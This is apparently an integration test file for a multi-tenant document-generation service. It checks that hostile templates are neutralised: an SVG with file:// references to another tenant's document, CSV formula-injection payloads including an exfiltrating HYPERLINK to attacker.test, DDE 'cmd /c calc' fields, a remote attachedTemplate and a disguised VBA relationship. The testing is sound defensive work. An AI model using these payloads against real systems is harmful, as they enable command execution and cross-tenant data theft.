// A tenant's document reaches nothing but itself (issue 25 §1 and §3), through the real service: API, Temporal
// worker, merge threads, the LibreOffice pool in its sandbox. Every hostile file is built here.
//
// - Tenant B's docx carries a gzip-compressed SVG (`word/media/i.svg`, bytes 1f 8b) whose <image>s name
//   tenant A's stored document (`<data dir>/storage/subscriptions/<A>/documents/<urn>`; with object storage
//   the same bytes are planted at that path), a PDF and a PNG on the host: B's pdf shows none of them.
// - csv output of a workbook full of formula-injection payloads comes out as text.
// - DDE fields and a remote attachedTemplate never reach a docx output; a DDE formula never reaches an xlsx
//   output; a macro relationship to a renamed part and a spreadsheet DDE link are refused with a 400 that
//   names them.
// Each case prints its answer and time; the end prints the peak RSS of this process (API + worker) plus
// its LibreOffice instances.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Credentials } from '../../api/auth/credentials.ts';
import { entryText, makeEntry, readZip, writeZip } from '../../converter/zip.ts';
import { fieldRun, makeDocx, makeXlsx, para, pictureRun, png, poppler } from './convert/fixtures.ts';
import { client, generateBody } from '../support/http.ts';
import { type Stack, startStack } from '../support/stack.ts';

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';

/** Resident memory of this process and of every process below it (the LibreOffice instances), in bytes. */
function treeRss(): { self: number; children: number } {
  const children = new Map<number, number[]>();
  const rss = new Map<number, number>();
  for (const name of fs.readdirSync('/proc')) {
    if (!/^\d+$/.test(name)) continue;
    try {
      const stat = fs.readFileSync(`/proc/${name}/stat`, 'latin1');
      const f = stat.slice(stat.lastIndexOf(')') + 2).split(' ');
      const ppid = Number(f[1]);
      children.set(ppid, [...(children.get(ppid) ?? []), Number(name)]);
      rss.set(Number(name), Number(f[21]) * 4096);
    } catch {
      /* gone */
    }
  }
  let below = 0;
  const todo = [...(children.get(process.pid) ?? [])];
  while (todo.length) {
    const pid = todo.pop()!;
    below += rss.get(pid) ?? 0;
    todo.push(...(children.get(pid) ?? []));
  }
  return { self: rss.get(process.pid) ?? 0, children: below };
}

/** Rewrites parts of a package (name -> new text), adding the ones it lacks. */
function withParts(pkg: Uint8Array, parts: Record<string, (old: string) => string>): Uint8Array {
  const entries = readZip(pkg);
  const out = entries.map((e) => (parts[e.name] ? makeEntry(e.name, parts[e.name]!(entryText(e))) : e));
  for (const [name, make] of Object.entries(parts)) if (!entries.some((e) => e.name === name)) out.push(makeEntry(name, make('')));
  return writeZip(out);
}

describe('hostile content from one tenant', () => {
  let stack: Stack;
  let a: ReturnType<typeof client>;
  let b: ReturnType<typeof client>;
  let credsA: Credentials;
  let dir: string;
  const peak = { self: 0, children: 0, total: 0 };
  let sampler: NodeJS.Timeout;

  beforeAll(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'hostile-content-'));
    stack = await startStack({ converterPoolSize: 1 });
    credsA = await stack.credentials('tenant-a');
    a = client(credsA);
    b = client(await stack.credentials('tenant-b'));
    sampler = setInterval(() => {
      const now = treeRss();
      peak.self = Math.max(peak.self, now.self);
      peak.children = Math.max(peak.children, now.children);
      peak.total = Math.max(peak.total, now.self + now.children);
    }, 100);
  });
  afterAll(async () => {
    clearInterval(sampler);
    const mb = (n: number) => `${Math.round(n / 1024 / 1024)} MB`;
    if (peak.total)
      console.log(
        `[hostile-content] peak RSS: ${mb(peak.total)} in all; this process (test runner, API, worker, merge threads) ${mb(peak.self)}, its LibreOffice processes ${mb(peak.children)}`,
      );
    await stack?.stop();
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  async function generate(api: ReturnType<typeof client>, template: Uint8Array, templateFormat: string, data: unknown, fileFormat: string) {
    const { templateUrn, dataUrn } = await api.uploadPair(template, data, templateFormat);
    const t0 = performance.now();
    const res = await api.call('POST', '/documents/document/generate', {
      json: generateBody(templateUrn, dataUrn, { template: { fileFormat: templateFormat }, document: { fileFormat, name: 'out' } }),
    });
    return { res, ms: Math.round(performance.now() - t0) };
  }

  const report = (name: string, status: number, code: string | undefined, ms: number) =>
    console.log(`[hostile-content] ${name}: ${status}${code ? ` ${code}` : ''} in ${ms} ms`);

  it("tenant B's svgz image names tenant A's stored document and host files: B's pdf shows none of them", async () => {
    // Tenant A's document: a pdf whose first page says A's secret.
    const stored = await generate(a, makeDocx(para('TENANT A SECRET {n}')), 'docx', { n: 42 }, 'pdf');
    expect(stored.res.status, JSON.stringify(stored.res.body)).toBe(201);
    const urn = stored.res.body.result.data.document.urn as string;
    const storedPath = path.join(stack.config.dataDir, 'storage', 'subscriptions', credsA.subscriptionId, 'documents', urn);
    if (!fs.existsSync(storedPath)) {
      // Object storage: the bytes live in the bucket; plant them where the directory store keeps them.
      fs.mkdirSync(path.dirname(storedPath), { recursive: true });
      fs.writeFileSync(storedPath, (await a.download(urn)).bytes);
    }
    fs.writeFileSync(path.join(dir, 'host.pdf'), fs.readFileSync(storedPath));
    fs.writeFileSync(path.join(dir, 'host.png'), png([20, 200, 20]));
    const targets = [storedPath, path.join(dir, 'host.pdf'), path.join(dir, 'host.png')];
    const svg =
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="${100 * targets.length}" height="100">` +
      targets.map((t, i) => `<image x="${i * 100}" y="0" width="100" height="100" href="file://${t}" xlink:href="file://${t}"/>`).join('') +
      '</svg>';
    const template = makeDocx({
      body: para('Report for {name}') + pictureRun('rIdSvg', 'embed', 1),
      rels: `<Relationship Id="rIdSvg" Type="${REL}/image" Target="media/i.svg"/>`,
      extra: { 'word/media/i.svg': gzipSync(svg) },
    });
    const { res, ms } = await generate(b, template, 'docx', { name: 'B' }, 'pdf');
    report("svgz naming another tenant's document and host files, pdf", res.status, undefined, ms);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    const pdf = (await b.download(res.body.result.data.document.urn)).bytes;
    const text = poppler('pdftotext', pdf);
    expect(text).toContain('Report for B');
    expect(text).not.toContain('SECRET');
    // No image XObject at all: neither A's page nor the host's PDF or PNG.
    expect(poppler('pdfimages', pdf, ['-list']).trim().split('\n').slice(2)).toEqual([]);
  });

  it('csv output of formula-injection payloads is text', async () => {
    const workbook = makeXlsx([
      { name: 'Data', rows: [['{v}'], ['=HYPERLINK("http://attacker.test/?x="&A3,"Click")', "=cmd|' /C calc'!A0", '@SUM(1+1)', -5]] },
    ]);
    const { res, ms } = await generate(b, workbook, 'xlsx', { v: '-2+3+cmd|x' }, 'csv');
    report('formula-injection payloads, csv', res.status, undefined, ms);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    const csv = Buffer.from((await b.download(res.body.result.data.document.urn)).bytes).toString('utf8');
    expect(csv.split('\n').slice(0, 2)).toEqual([
      '"\'-2+3+cmd|x",,,',
      '"\'=HYPERLINK(""http://attacker.test/?x=""&A3,""Click"")","\'=cmd|\' /C calc\'!A0","\'@SUM(1+1)",-5',
    ]);
  });

  it('a docx output carries no DDE field and no remote template', async () => {
    const template = makeDocx({
      body:
        para('Dear {name}') +
        fieldRun('DDEAUTO "cmd" "/c calc" \\\\* MERGEFORMAT', 'cached one') +
        '<w:p><w:fldSimple w:instr=" DDE excel &quot;C:\\\\x.xls&quot; R1C1 "><w:r><w:t>cached two</w:t></w:r></w:fldSimple></w:p>',
      rels: `<Relationship Id="rIdS" Type="${REL}/settings" Target="settings.xml"/>`,
      extra: {
        'word/settings.xml': `${XML}<w:settings xmlns:w="${W}" xmlns:r="${REL}"><w:attachedTemplate r:id="rIdT"/></w:settings>`,
        'word/_rels/settings.xml.rels':
          `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
          `<Relationship Id="rIdT" Type="${REL}/attachedTemplate" Target="\\\\attacker.test\\share\\t.dotm" TargetMode="External"/></Relationships>`,
      },
    });
    const { res, ms } = await generate(b, template, 'docx', { name: 'B' }, 'docx');
    report('DDE fields and a remote attachedTemplate, docx', res.status, undefined, ms);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    const out = (await b.download(res.body.result.data.document.urn)).bytes;
    const parts = new Map(readZip(out).map((e) => [e.name, entryText(e)]));
    const doc = parts.get('word/document.xml') ?? '';
    expect(doc).toContain('Dear B');
    expect(doc).toContain('cached one');
    expect(doc).toContain('cached two');
    expect(doc).not.toMatch(/DDE/);
    expect(parts.get('word/_rels/settings.xml.rels')).not.toMatch(/attachedTemplate|attacker/);
  });

  it('an xlsx output carries no DDE formula; a DDE link and a macro relationship to a renamed part are refused', async () => {
    const dde = withParts(makeXlsx([{ name: 'S', rows: [['{title}', 1]] }]), {
      'xl/worksheets/sheet1.xml': (x) => x.replace('<c r="B1"><v>1</v></c>', `<c r="B1"><f>cmd|' /C calc'!A0</f><v>7</v></c>`),
    });
    const r1 = await generate(b, dde, 'xlsx', { title: 'T' }, 'xlsx');
    report('DDE formula, xlsx', r1.res.status, undefined, r1.ms);
    expect(r1.res.status, JSON.stringify(r1.res.body)).toBe(201);
    const sheet = entryText(
      readZip((await b.download(r1.res.body.result.data.document.urn)).bytes).find((e) => e.name === 'xl/worksheets/sheet1.xml')!,
    );
    expect(sheet).not.toContain('cmd|');
    expect(sheet).toMatch(/<c r="B1"><f><\/f><v>7<\/v><\/c>/);

    const ddeLink = withParts(makeXlsx([{ name: 'S', rows: [['{title}']] }]), {
      'xl/externalLinks/externalLink1.xml': () =>
        `${XML}<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>`,
      'xl/_rels/workbook.xml.rels': (x) =>
        x.replace(
          '</Relationships>',
          `<Relationship Id="rIdE" Type="${REL}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`,
        ),
    });
    const macro = makeDocx({
      body: para('Dear {name}'),
      rels: '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="media/image9.png"/>',
      extra: {
        'word/media/image9.png': new Uint8Array([
          0xd0,
          0xcf,
          0x11,
          0xe0,
          0xa1,
          0xb1,
          0x1a,
          0xe1,
          ...Buffer.from('_VBA_PROJECT', 'utf16le'),
        ]),
      },
    });
    for (const [name, tpl, fmt, part] of [
      ['DDE link, xlsx', ddeLink, 'xlsx', /xl\/externalLinks\/externalLink1\.xml: DDE links are refused/],
      ['macro relationship to a renamed part, docx', macro, 'docx', /vbaProject relationship to media\/image9\.png/],
    ] as const) {
      const { res, ms } = await generate(b, tpl, fmt, { title: 'T', name: 'B' }, fmt);
      const code = res.body?.error?.innerErrors?.[0]?.code as string | undefined;
      report(name, res.status, code, ms);
      expect(res.status, JSON.stringify(res.body)).toBe(400);
      expect(code).toBe('TEMPLATE_ERROR');
      expect(res.body.error.innerErrors[0].message).toMatch(part);
    }
  });
});
